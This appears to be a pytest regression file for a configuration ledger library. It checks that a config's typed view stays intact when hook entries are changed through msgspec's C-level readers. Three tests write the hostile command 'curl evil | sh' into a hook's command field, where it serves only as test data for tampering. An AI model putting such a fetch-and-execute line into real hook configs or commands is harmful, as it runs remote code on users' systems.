"""Review r7: inputs where `fn` in `update_raw`/`update_typed` reaches the writer's
typed view (`TypedView.pristine`), so that the view serves a value the ledger never
recorded, or a later edit is diffed against a corrupted base and dropped.

The copy's root is safe against the C-level readers (review r6 F5/F5b), but one
level below it a section twin's slots are still the view's own objects until read
through `__getattribute__`: `msgspec.structs.asdict/astuple`, `__rich_repr__` and the
same readers on `copy.copy`/`structs.replace` of a section twin hand them out.
Now every view's sections are encoded when it is made, so what it serves is what the
ledger wrote, and an edit checks the sections its copy reached against that JSON
(`TypedView._check`): a view changed in place is dropped and built again from the
raw document, and `fn` runs again; an `fn` that does it again is refused with the fix.
The root map findings below are fixed too.
"""

from __future__ import annotations

import copy
from typing import Any

import msgspec
import pytest

from ledger import ConfigValidationError, MemoryConfigStore
from ledger.typed.convert import to_typed
from tests.conftest import run

HOOKS = {"hooks": [{"name": "h", "command": "echo ok", "events": ["SessionStart"]}]}
BASE = {"server": {"port": 1}, "hooks": HOOKS}


def _asdict(c: Any) -> Any:
    return msgspec.structs.asdict(c.hooks)["hooks"]


def _astuple(c: Any) -> Any:
    return msgspec.structs.astuple(c.hooks)[type(c.hooks).__struct_fields__.index("hooks")]


def _rich_repr(c: Any) -> Any:
    return dict(c.hooks.__rich_repr__())["hooks"]


def _asdict_of_replace(c: Any) -> Any:
    return msgspec.structs.asdict(msgspec.structs.replace(c.hooks))["hooks"]


def _asdict_of_copy(c: Any) -> Any:
    return msgspec.structs.asdict(copy.copy(c.hooks))["hooks"]


READERS = [_asdict, _astuple, _rich_repr, _asdict_of_replace, _asdict_of_copy]


def _state(store: MemoryConfigStore) -> tuple[str, str, str]:
    """(the writer's typed view, a fresh conversion of the raw document, the raw one)."""
    here = run(store.load_raw())
    raw = store.ledger.head_state().config
    fresh = to_typed(raw, store.ledger.vault)
    return (here.hooks.hooks[0].command, fresh.hooks.hooks[0].command,
            raw["hooks"]["hooks"][0]["command"])


@pytest.mark.parametrize("reader", READERS, ids=lambda r: r.__name__)
def test_a_section_read_by_a_c_level_reader_never_changes_the_view(reader: Any) -> None:
    """fn changes a hook through a C-level reader of the section twin and then fails:
    nothing is recorded, yet the writer's view serves the change (the previous edit
    replaced [hooks], so its JSON is encoded from the corrupted `pristine`)."""
    store = MemoryConfigStore()
    run(store.save_raw(BASE, actor="a"))
    run(store.load_raw())
    run(store.update_raw(lambda c: setattr(c.hooks.hooks[0], "name", "h2"), actor="a"))

    def fn(c: Any) -> None:
        reader(c)[0].command = "curl evil | sh"
        raise RuntimeError("fn gives up")

    with pytest.raises(RuntimeError):
        run(store.update_raw(fn, actor="a"))
    here, fresh, raw = _state(store)
    assert (here, fresh, raw) == ("echo ok", "echo ok", "echo ok")


@pytest.mark.parametrize("reader", READERS, ids=lambda r: r.__name__)
def test_a_write_after_a_c_level_read_of_a_section_is_recorded(reader: Any) -> None:
    """The corrupted `pristine` is the base of the next diff: a later, legitimate edit
    that sets the value fn had reached is found 'unchanged' and silently dropped."""
    store = MemoryConfigStore()
    run(store.save_raw(BASE, actor="a"))
    run(store.load_raw())
    run(store.update_raw(lambda c: reader(c)[0].__setattr__("command", "x"), actor="a"))
    commit = run(store.update_raw(
        lambda c: setattr(c.hooks.hooks[0], "command", "x"), actor="a"))
    assert commit.appended
    assert _state(store) == ("x", "x", "x")


def test_a_kept_copy_read_by_a_c_level_reader_after_the_write_never_changes_the_view(
        ) -> None:
    """A caller keeps its copy (allowed): after the write, its section twin's unread
    slots are still objects the next view shares."""
    store = MemoryConfigStore()
    run(store.save_raw(BASE, actor="a"))
    run(store.load_raw())
    kept: list[Any] = []

    def fn(c: Any) -> None:
        kept.append(c)
        c.server.port = 2

    run(store.update_raw(fn, actor="a"))
    _asdict(kept[0])[0].command = "curl evil | sh"  # the caller's own copy, after the write
    run(store.update_raw(lambda c: setattr(c.hooks.hooks[0], "name", "h2"), actor="a"))
    assert _state(store) == ("echo ok", "echo ok", "echo ok")


def _edit_both(fn: Any) -> tuple[Any, Any]:
    """(fast path, whole-section path) outcomes of one edit of a view with [models]
    and [env]: raw changes, problem, and the next view (`TypedView.after`)."""
    from tests.test_typed_edit_paths import outcome

    store = MemoryConfigStore()
    run(store.save_raw({"server": {"port": 1}, "env": {"A": "a", "B": "b"},
                        "models": {"m1": {"context_window": 1},
                                   "m2": {"context_window": 2}}},
                       actor="s", source="import"))
    head = store.ledger.head_state()
    view, raw = store.ledger._view_for(head), head.config
    fast = outcome(view, view.edit(fn, raw), raw)
    copy_ = view.fresh()
    fn(copy_)
    return fast, outcome(view, view._edit_sections(copy_, raw), raw)


@pytest.mark.parametrize("fn", [
    lambda c: c.models.__setitem__("m1", c.models.pop("m1")),
    lambda c: c.env.__setitem__("A", c.env.pop("A")),
], ids=["models", "env"])
def test_a_root_map_only_reordered_is_decided_as_the_whole_section_path(fn: Any) -> None:
    """The root twin's attribute read re-copies MapPlan's plain-dict copy into a `_Dict`,
    and the walk's `mapping` took the order change alone for a change (no raw change,
    Edit.reorder set) where the whole-section path compares `==` and replaces nothing:
    the same keys in another order with nothing else changed is now no change."""
    fast, whole = _edit_both(fn)
    assert fast[:2] == whole[:2] == ([], None)
    assert fast == whole


def test_fn_that_changes_the_view_through_a_c_level_reader_is_refused_with_the_fix() -> None:
    """fn itself changes a value in place through `asdict` of a section it also edits:
    the view it reached no longer encodes to what the ledger wrote, the edit runs again
    on a view built from the raw document, where fn does the same, and is refused with
    how to make it; nothing is written and the next edit is served from a clean view."""
    store = MemoryConfigStore()
    run(store.save_raw(BASE, actor="a"))
    run(store.load_raw())
    calls = []

    def fn(c: Any) -> None:
        calls.append(1)
        _asdict(c)[0].command = "curl evil | sh"
        c.hooks.hooks[0].name = "h2"

    with pytest.raises(ConfigValidationError, match="through its attributes") as err:
        run(store.update_raw(fn, actor="a"))
    assert "hooks" in str(err.value) and len(calls) == 2
    assert store.ledger.head_state().seq == 1
    assert _state(store) == ("echo ok", "echo ok", "echo ok")
    run(store.update_raw(lambda c: setattr(c.hooks.hooks[0], "name", "h3"), actor="a"))
    assert run(store.load_raw()).hooks.hooks[0].name == "h3"
    assert _state(store) == ("echo ok", "echo ok", "echo ok")
